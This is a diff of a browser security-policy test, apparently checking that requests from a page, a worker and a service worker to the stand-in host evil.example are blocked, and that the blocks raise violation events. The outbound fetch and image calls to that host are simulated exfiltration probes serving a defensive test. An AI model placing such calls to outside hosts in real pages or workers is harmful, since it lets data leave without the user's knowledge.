@@ -11,12 +11,14 @@ import { endVisits, lookForBreaches } from '../../support/visits.ts';
 const PAGE = `
 const policy = trustedTypes.createPolicy('drempel', { createScriptURL: (url) => url });
 navigator.serviceWorker.register(policy.createScriptURL('/sw.js'), { updateViaCache: 'none' });
+// The page hears of what it is refused a moment after it was; whoever listens from the start hears it first.
+const refused = (work) => new Promise((resolve) => { document.addEventListener('securitypolicyviolation', resolve, { once: true }); work(); });
 window.attempts = {
-  request: () => fetch('http://evil.example/from-page').catch(() => undefined),
-  picture: () => new Promise((resolve) => { const picture = new Image(); picture.onerror = resolve; picture.src = 'http://evil.example/x.png'; }),
+  request: () => refused(() => { fetch('http://evil.example/from-page').catch(() => undefined); }),
+  picture: () => refused(() => { new Image().src = 'http://evil.example/x.png'; }),
   socket: () => new Promise((resolve) => { new WebSocket('ws://' + location.host + '/').onclose = resolve; }),
-  markup: () => { try { document.body.innerHTML = '<i>x</i>'; } catch {} },
-  frame: () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.onload = resolve; frame.src = 'http://127.0.0.1:' + location.port + '/'; document.body.append(frame); }),
+  markup: () => refused(() => { try { document.body.innerHTML = '<i>x</i>'; } catch {} }),
+  frame: () => refused(() => { const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:' + location.port + '/'; document.body.append(frame); }),
   begin: () => { window.thread = new Worker(policy.createScriptURL('/assets/thread.js')); },
   thread: () => new Promise((resolve) => { thread.onmessage = resolve; thread.postMessage(''); }),
   worker: () => new Promise((resolve) => {
@@ -24,10 +26,18 @@ window.attempts = {
     navigator.serviceWorker.controller.postMessage('leave');
   }),
 };`;
-const THREAD = `addEventListener('message', () => fetch('http://evil.example/from-thread').catch(() => undefined).then(() => postMessage('done')));`;
+// Those that listen in a worker came after its script: they hear it last, and have heard it by the next turn.
+const THREAD = `addEventListener('message', () => {
+  addEventListener('securitypolicyviolation', () => setTimeout(() => postMessage('done')));
+  fetch('http://evil.example/from-thread').catch(() => undefined);
+});`;
 const WORKER = `
 self.addEventListener('message', (event) => {
-  if (event.data === 'leave') event.waitUntil(fetch('http://evil.example/from-worker').catch(() => undefined).then(() => event.source.postMessage('left')));
+  if (event.data !== 'leave') return;
+  event.waitUntil(new Promise((heard) => {
+    self.addEventListener('securitypolicyviolation', () => setTimeout(heard));
+    fetch('http://evil.example/from-worker').catch(() => undefined);
+  }).then(() => event.source.postMessage('left')));
 });`;
 
 let site: SampleSite;
